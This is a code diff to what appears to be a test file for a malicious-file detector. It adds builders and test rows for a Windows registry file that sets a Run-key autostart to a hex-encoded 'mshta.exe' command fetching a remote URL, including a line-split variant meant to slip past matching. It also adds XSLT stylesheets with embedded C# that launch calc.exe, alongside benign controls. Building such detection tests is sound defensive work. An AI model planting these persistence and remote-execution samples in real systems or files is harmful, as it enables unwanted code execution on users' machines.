@@ -121,6 +121,16 @@ const odc = (content: string): Uint8Array =>
   )
 
 const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
+const coded = (text: string): string =>
+  `hex(2):${[...Buffer.from(`${text}\0`, 'utf16le')].map((byte) => byte.toString(16).padStart(2, '0'))}`
+const registry = (value: string): Uint8Array =>
+  Buffer.from(
+    `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"=${value}\r\n`,
+  )
+const stylesheet = (code: string): Uint8Array =>
+  Buffer.from(
+    `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u"><m:script language="C#" implements-prefix="u"><![CDATA[public string t(){ ${code} }]]></m:script></xsl:stylesheet>`,
+  )
 const zipOf = (files: Record<string, Uint8Array>): Uint8Array =>
   writeZip(Object.entries(files).map(([name, data]) => ({ name, data })))
 const JAR = zipOf({ 'META-INF/MANIFEST.MF': Buffer.from('Main-Class: A\n'), 'A.txt': Buffer.from('text') })
@@ -135,6 +145,20 @@ const ROWS: readonly Row[] = [
     zipOf({ 'Invoice.pdf.jar': JAR, 'notes.txt': Buffer.from('text') }),
     zipOf({ 'Invoice.PDF  .Msi.': JAR, 'notes.txt': Buffer.from('text') }),
     zipOf({ 'lib/pdf.jar': JAR, 'notes.txt': Buffer.from('text') }),
+  ],
+  [
+    'command that starts with Windows, coded in a registry file',
+    'Shortcut.Registry',
+    registry(coded('mshta.exe http://files.example/a')),
+    registry(coded('mshta.exe http://files.example/a').replaceAll(',73,', ',\\\r\n  73,')),
+    registry(coded('%ProgramFiles%\\Tool\\tool.exe /tray')),
+  ],
+  [
+    'stylesheet that starts a program',
+    'Script.InlineCode',
+    stylesheet('var p = new ProcessStartInfo("calc.exe"); return "0";'),
+    stylesheet('System.Diagnostics.Process.Start("calc.exe"); return "0";'),
+    stylesheet('return System.DateTime.Now.ToString("yyyy");'),
   ],
   [
     'sign-in page that poses as that of a company',
